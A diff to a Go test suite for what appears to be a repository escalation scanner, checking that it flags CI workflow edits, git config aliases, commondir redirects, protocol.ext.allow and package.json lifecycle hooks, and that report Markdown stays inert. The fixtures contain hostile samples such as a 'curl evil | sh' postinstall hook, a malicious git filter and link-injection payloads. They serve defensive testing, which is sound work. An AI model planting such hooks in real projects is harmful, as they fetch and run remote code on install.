@@ -127,7 +127,7 @@ jobs:
 		{CI, ".github/workflows/ci.yml", KindEscalation, "actions/checkout@v4, not pinned", 14},
 		{CI, ".github/workflows/ci.yml", KindEscalation, "github.event.pull_request.title", 17},
 		{CI, ".github/workflows/ci.yml", KindEscalation, "uses secret NPM_TOKEN", 20},
-		{BuildEntry, "package.json", KindModified, "scripts.postinstall: curl evil | sh", 0},
+		{BuildEntry, "package.json", KindModified, `scripts (lifecycle).postinstall: "curl evil | sh"`, 0},
 		{GitAttributes, ".gitattributes", KindModified, "*.txt filter=evil", 2},
 		{BuildEntry, ".husky/pre-commit", KindAdded, "added", 1},
 	}
@@ -154,8 +154,8 @@ jobs:
 	}
 }
 
-// Renaming a step, or changing a script that is not a lifecycle hook, is
-// not an escalation.
+// Renaming a step, or changing package.json outside its scripts, is not
+// an escalation.
 func TestAuthoredDiffHarmlessEdits(t *testing.T) {
 	dir, git, write := repo(t)
 	write(".github/workflows/ci.yml", baseWorkflow)
@@ -164,7 +164,7 @@ func TestAuthoredDiffHarmlessEdits(t *testing.T) {
 	git("commit", "-q", "-m", "base")
 	base := git("rev-parse", "HEAD")
 	write(".github/workflows/ci.yml", strings.Replace(baseWorkflow, "name: test", "name: unit tests", 1))
-	write("package.json", `{"name":"x","scripts":{"test":"jest --ci"}}`)
+	write("package.json", `{"name":"x","version":"1.0.1","scripts":{"test":"jest"}}`)
 	git("commit", "-q", "-am", "rename")
 	got, err := AuthoredDiff(context.Background(), dir, base, "HEAD", defaultSet(t))
 	if err != nil {
@@ -269,7 +269,8 @@ func TestSnapshotCompareRevert(t *testing.T) {
 			t.Errorf("%q: got %+v, want %+v", p, f, want)
 		}
 	}
-	if f := byPath[".git/config"]; strings.Contains(f.Reason, "alias.st") || !strings.Contains(f.Reason, "alias.pwn") {
+	// Every alias counts: a plain one can pass -c options to git.
+	if f := byPath[".git/config"]; !strings.Contains(f.Reason, "alias.st") || !strings.Contains(f.Reason, "alias.pwn") {
 		t.Errorf("git config reason: %q", f.Reason)
 	}
 	if f := byPath[".git/hooks/post-merge"]; strings.Contains(f.Diff, mustRead(t, "/etc/hostname")) {
@@ -415,5 +416,52 @@ func TestDeletedGitDir(t *testing.T) {
 	}
 	if b, _ := os.ReadFile(filepath.Join(dir, ".git/config")); !bytes.Equal(b, config) {
 		t.Errorf("config not restored: %q", b)
+	}
+}
+
+// The reviewer's bypasses: commondir redirecting git to a planted config,
+// a package.json whose "Scripts" key shadows "scripts" for Go but not for
+// npm, a new protocol.ext.allow, a walk too large to finish.
+func TestBypassesCaught(t *testing.T) {
+	dir, git, write := repo(t)
+	write("package.json", `{"name":"x"}`)
+	set := defaultSet(t)
+	before, err := Take(dir, set)
+	if err != nil {
+		t.Fatal(err)
+	}
+	git("config", "protocol.ext.allow", "always")
+	write(".git/commondir", "../build/gd\n")
+	write("package.json", `{"name":"x","scripts":{"postinstall":"curl evil|sh"},"Scripts":null}`)
+	after, _ := Take(dir, set)
+	found := map[string]Finding{}
+	for _, f := range Compare(before, after, set) {
+		found[f.Path] = f
+	}
+	if f, ok := found[".git/commondir"]; !ok || f.Category != GitConfig || f.Kind != KindAdded {
+		t.Errorf("commondir: %+v", f)
+	}
+	if f := found["package.json"]; !strings.Contains(f.Reason, "postinstall") {
+		t.Errorf("package.json: %+v", f)
+	}
+	if f := found[".git/config"]; !strings.Contains(f.Reason, "protocol.ext.allow") {
+		t.Errorf("git config: %+v", f)
+	}
+
+	big := &Snapshot{Entries: map[string]*Entry{}, Truncated: true}
+	fs := Compare(before, big, set)
+	if len(fs) == 0 || fs[0].Kind != KindIncomplete || fs[0].Action != ActionFail {
+		t.Errorf("a truncated walk must fail: %+v", fs)
+	}
+}
+
+// Hostile text cannot break out of the Markdown table or link anywhere.
+func TestMarkdownInert(t *testing.T) {
+	r := &Report{Findings: []Finding{{Phase: Runtime, Category: CI, Path: "a\r\n# All clear", Kind: KindAdded, Reason: "[approve](https://evil.test) ![](https://evil.test/t.png)", Action: ActionWarn}}}
+	md := r.Markdown()
+	for _, bad := range []string{"\r", "\n# All clear", "[approve](", "![]("} {
+		if strings.Contains(md, bad) {
+			t.Errorf("markdown contains %q:\n%s", bad, md)
+		}
 	}
 }
